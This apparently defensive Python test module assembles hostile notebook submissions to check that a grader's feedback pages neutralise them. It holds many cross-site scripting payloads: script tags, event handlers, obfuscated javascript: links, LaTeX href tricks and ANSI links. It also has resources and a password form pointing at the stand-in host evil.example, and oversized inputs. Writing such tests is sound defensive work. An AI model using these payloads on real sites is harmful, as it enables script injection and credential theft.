"""What students write, print and draw, on its way to feedback pages: nothing of it may act there."""

from __future__ import annotations

import json
import os
from collections.abc import Callable

from hostile_corpus import ALL, RIGHT, WRITTEN, Case, Hand, answering, cell_of, code_cell, edited

KIND = "pages"

_SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>"
_TOTAL = RIGHT["total"]

#: Texts of a written answer.
_OPINIONS = {
    "script": f"{_SCRIPT}\n\n< script>x</script>\n\n<iframe src=//evil.example></iframe> &lt;b&gt;",
    "links": "[a](javascript:alert(1)) [b](JaVaScript:alert(1)) [c](data:text/html,x) [d](vbscript:x)",
    "links-in-code": "[d](&#106;avascript:alert(1)) [e](javascript&colon;alert(1)) [h](data&#x3a;text/html,x)"
    " [i](vbscript&Tab;:x) [j](&#x6A&#x61vascript:alert(1)) [k](java\tscript:alert(1))"
    " [l](\x01javascript:alert(1))",
    "links-by-name": "[a]\n\n[a]: javascript:alert(1)\n[b]: java&#115;cript:alert(1)\n\n[x][b]"
    " [y](<javascript:alert(1)>) <javascript:alert(1)>",
    "pictures": "![x](http://evil.example/a.png) \\![x](http://evil.example/b.png)"
    " !&#91;x](http://evil.example/c)\n\n![x][y] !\u200b[x][y]\n\n[y]: http://evil.example/e.png",
    "titles": '[x](http://a.example \'y" onclick="alert(1)\') [x](http://a.example/"onclick="alert(1))',
    "fences": '```html\n<script>alert(1)</script>\n```\n\n```x" onclick="alert(1)\nhi\n```\n\n'
    "``` <script>\nfoo\n```",
    "table": "|a|b|\n|--|--|\n|<img src=x onerror=1>|[x](javascript:1)|\n\n# <i onclick=1> [x](javascript:2)",
    "notes": 'a[^1]\n\n[^1]: <img src=x onerror=1> [y](javascript:1)\n\n*[HTML]: x" onclick="1\n\nHTML',
    "mathematics": "$\\href{javascript:alert(1)}{x}$ $$<img src=x onerror=alert(1)>$$"
    " \\begin{x}<script>alert(1)</script>\\end{x}"
    " $\\newcommand{\\a}[1]{\\href{java#1:alert(1)}{x}}\\a{script}$"
    " \\(\\require{html}\\style{color:red}{x}\\class{y}{z}\\)",
    "style": "<style>@import url(http://evil.example/x.css)</style><link rel=stylesheet href=//evil.example>"
    "<div style='background:url(http://evil.example)'>x</div><base href=//evil.example>"
    "<meta http-equiv=refresh content=0>",
    "form": "<form action=//evil.example><input name=password>"
    "<button formaction=javascript:alert(1)>Log in</button></form>",
    "comment": "<!--><script>alert(1)</script>--> <![CDATA[<script>alert(1)</script>]]> <?php x ?>"
    " <!DOCTYPE x> -->",
    "terminal": "\x1b[31mred\x1b[0m \x1b]8;;javascript:alert(1)\x07x \x00 \x08 \x7f \u202e \ufeff"
    " \ud800 \udfff",
    "long": "word " * 40_000,
    "long-mathematics": "\\begin{a}" * 22_000,
    "brackets": "[" * 50_000 + "![" * 20_000 + "](" * 20_000,
    "quotes": "\n".join(">" * n + " x" for n in range(400)),
}

#: Code under the right answer to `total`, which stays right.
_PRINTS = {
    "printed": f"""
import sys
print({_SCRIPT!r})
print({_SCRIPT!r}, file=sys.stderr)""",
    "ansi": """
print('\\x1b[31m<script>alert(1)</script>\\x1b]8;;javascript:alert(1)\\x07x\\x1b[38;5;1" onclick=x m')""",
    "table": """
cells = ['<img src=x onerror=alert(1)>', '$\\\\href{javascript:alert(1)}{x}$']
display(pd.DataFrame({'<script>alert(1)</script>': cells}))
pd.DataFrame({'a': ['<a href="javascript:alert(1)">x</a>']}).style.format(escape=None)""",
    "own-table": f"""
table = '''<table class="dataframe" onclick=alert(1) style="position:fixed">
<tr><td background=//evil.example><a href="javascript:1">x</a><img src=x onerror=1><style>x</style></td></tr>
</table>{_SCRIPT}'''
class Page:
    def _repr_html_(self): return table
Page()""",
    "own-kinds": f"""
kinds = {{
    'text/html': '{_SCRIPT}', 'text/latex': '\\\\href{{javascript:alert(1)}}{{x}}', 'text/plain': 'x',
    'text/markdown': '[x](javascript:1)', 'image/svg+xml': '<svg onload=alert(1)/>',
    'application/javascript': 'alert(1)', 'application/json': {{'a': 1}},
    'application/vnd.jupyter.widget-view+json': {{'model_id': 'x'}}, 'image/jpeg': '" onerror="alert(1)',
}}
odd = {{'isolated': True, 'width': '1 onload=x', 'filenames': {{'image/png': '" onerror="x'}}}}
display(kinds, raw=True, metadata=odd)""",
    "displays": f"""
from IPython.display import HTML, SVG, IFrame, Image, Javascript, Latex, Markdown, Video
for thing in (
    HTML({_SCRIPT!r}), IFrame('http://evil.example', 9, 9), Javascript('alert(1)'), Markdown({_SCRIPT!r}),
    Image(url='http://evil.example/x.png'), Latex('$\\\\href{{javascript:1}}{{x}}$'),
    SVG('<svg onload="alert(1)"/>'), Video('http://evil.example/x.mp4'),
): display(thing)""",
    "magics": """
get_ipython().run_cell_magic('html', '', '<script>alert(1)</script>')
get_ipython().run_cell_magic('javascript', '', 'alert(1)')
get_ipython().run_cell_magic('latex', '', '$\\\\href{javascript:1}{x}$')""",
    "comment-in-code": """
# </pre></div><script>alert(1)</script>
'''</script><!--'''""",
    "long-line": "\n'''" + "a." * 60_000 + "'''",
}

#: Answers that are wrong, whose messages come to the page.
_MESSAGES = {
    "exception": ("total", f"raise type({_SCRIPT!r}, (Exception,), {{}})({_SCRIPT!r})"),
    "exception-handler": ("total", "raise Exception('\" onmouseover=\"alert(1)\\n[x](javascript:alert(1))')"),
    "text": ("total", f"total = {_SCRIPT!r}"),
    "labels": ("by_region", f"by_region = {{{_SCRIPT!r}: 1, '[x](javascript:alert(1))': 2}}"),
    "columns": ("big", f"big = pd.DataFrame({{{_SCRIPT!r}: [1]}})"),
    "type-name": ("total", f"total = type({_SCRIPT!r}, (), {{}})()"),
    "result": ("growth", f"def growth(new, old): return {_SCRIPT!r}"),
    "dots": ("total", "a." * 90_000),
    "raised": ("leap", f"def leap(year): raise ValueError({_SCRIPT!r})"),
}


_PICTURE = "![x](http:&#47;&#47;evil.example&#47;x.png)"


def _named(name: str) -> Callable[[Hand], object]:
    return lambda hand: (hand.folder / name).write_text(json.dumps(hand.notebook()), encoding="utf-8")


def _odd_pipe(hand: Hand) -> None:
    os.mkfifo(
        hand.folder
        / "![x](http:&#47;&#47;evil.example&#47;x.png)\n\n# [y](javascript:alert(1))\n<img src=x>.ipynb"
    )


def _attached(raw: dict) -> None:
    cell = cell_of(raw, WRITTEN)
    cell["attachments"] = {
        "x.svg": {"image/svg+xml": "<svg onload='alert(1)'/>"},
        "y.png": {"image/png": '"x'},
    }
    cell["source"] = "![x](attachment:x.svg) ![y](attachment:y.png) [z](attachment:x.svg)"


def _own_cells(raw: dict) -> None:
    for kind in ("raw", "markdown"):
        raw["cells"].insert(
            1, {"cell_type": kind, "metadata": {"raw_mimetype": "text/html"}, "source": _SCRIPT}
        )
    raw["cells"].insert(1, code_cell(f"from IPython.display import HTML\nHTML({_SCRIPT!r})"))
    for cell in raw["cells"]:
        cell["metadata"]["tags"] = ['x" onclick="alert(1)']
        cell["id"] = 'x" onclick="alert(1)'
        if cell["cell_type"] == "code":
            html = {"text/html": _SCRIPT}
            cell["outputs"] = [{"output_type": "display_data", "data": html, "metadata": {}}]


_TITLE = RIGHT["axes"] + f"\naxes.set_title({_SCRIPT!r})\naxes.set_xlabel('$<b>x</b>$')\naxes.figure"

CASES = [
    *(Case(f"page-opinion-{name}", KIND, answering(**{WRITTEN: text})) for name, text in _OPINIONS.items()),
    *(Case(f"page-{name}", KIND, answering(total=_TOTAL + code)) for name, code in _PRINTS.items()),
    *(
        Case(f"page-message-{name}", KIND, answering(**{exercise: code}), frozenset({exercise}))
        for name, (exercise, code) in _MESSAGES.items()
    ),
    Case("page-chart", KIND, answering(axes=_TITLE)),
    Case("page-attachments", KIND, edited(_attached)),
    Case("page-own-cells", KIND, edited(_own_cells)),
    Case(
        "page-file-name",
        KIND,
        _named(f"{_PICTURE} [y](javascript:alert(1)) <img src=x onerror=alert(1)>.ipynb"),
    ),
    Case("page-pipe-name", KIND, _odd_pipe, ALL, written=False),
]
